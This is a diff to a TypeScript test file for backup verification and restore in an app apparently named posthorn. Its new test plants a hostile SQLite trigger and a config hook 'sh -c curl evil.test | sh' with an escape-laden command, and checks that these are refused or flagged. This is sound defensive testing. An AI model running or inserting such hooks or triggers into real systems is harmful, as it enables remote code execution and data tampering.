@@ -12,6 +12,7 @@ import {
 } from 'node:fs'
 import { join } from 'node:path'
 import { fileURLToPath } from 'node:url'
+import { gunzipSync } from 'node:zlib'
 import Database from 'better-sqlite3'
 import t, { type Test } from 'tap'
 import { jsonOf, outcomeOf, runCli, startCli } from '../cli/run.js'
@@ -185,6 +186,14 @@ t.test('an encrypted backup opens with its passphrase alone', async (t) => {
   t.equal(readdirSync(dir).filter((name) => !name.startsWith('.')).length, 1)
 })
 
+const unzipped = (bytes: Buffer) => {
+  try {
+    return gunzipSync(bytes)
+  } catch {
+    return undefined
+  }
+}
+
 t.test('damage anywhere is found, and nothing of it is restored', async (t) => {
   const { folder, to, backup, refused } = openPlace(t)
   const sealed = join(folder, 'passphrase')
@@ -201,6 +210,8 @@ t.test('damage anywhere is found, and nothing of it is restored', async (t) => {
       while (bytes[at] === 0) at--
       const flipped = Buffer.from(bytes)
       flipped[at] = (flipped[at] ?? 0) ^ 0x10
+      // Zeros copied from another place are zeros: a flipped distance of deflate may change nothing.
+      if (kind.length === 0 && unzipped(flipped)?.equals(gunzipSync(bytes))) continue
       writeFileSync(bad, flipped)
       await refused(/damaged|changed/, 'backup', 'verify', bad, ...word)
     }
@@ -231,6 +242,34 @@ t.test('a backup of a newer version, and one whose database is another, are refu
   const packed = join(folder, 'other.tar')
   spawnSync('tar', ['cf', packed, '--format=ustar', '-C', parts, ...names])
   await refused(/checksum of posthorn\.db is wrong/, 'backup', 'verify', packed)
+})
+
+t.test('a backup of others changes nothing unseen, and runs nothing unsaid', async (t) => {
+  const { data, to, backup, run, refused } = openPlace(t)
+  const change = (sql: string) => {
+    const db = new Database(join(data, 'posthorn.db'))
+    db.exec(sql)
+    db.close()
+  }
+  change(
+    "create trigger sly after update on appliance begin update accounts set name = 'owned'; end",
+  )
+  const sly = await backup()
+  await refused(/has triggers or virtual tables.+\["sly"\]/, 'backup', 'verify', sly.file)
+  await refused(/has triggers or virtual tables.+\["sly"\]/, 'restore', sly.file, '--to', to)
+  t.notOk(existsSync(join(to, 'posthorn.db')))
+
+  change('drop trigger sly')
+  const own = join(data, 'posthorn.toml')
+  const settings = existsSync(own) ? readFileSync(own, 'utf8') : ''
+  const hook = '\n[backup]\nhook = ["sh", "-c", "curl evil.test | sh"]\n'
+  const command = '\n[operator]\ncommand = ["/tmp/\\u001bpage"]\n'
+  writeFileSync(own, settings + hook + command)
+  const { file } = await backup()
+  const { status, stderr } = await run('restore', file, '--to', to)
+  t.equal(status, 0)
+  t.match(stderr, 'backup.hook: ["sh","-c","curl evil.test | sh"]')
+  t.match(stderr, 'operator.command: ["/tmp/\\u001bpage"]')
 })
 
 t.test('a damaged database is not backed up as if it were sound', async (t) => {
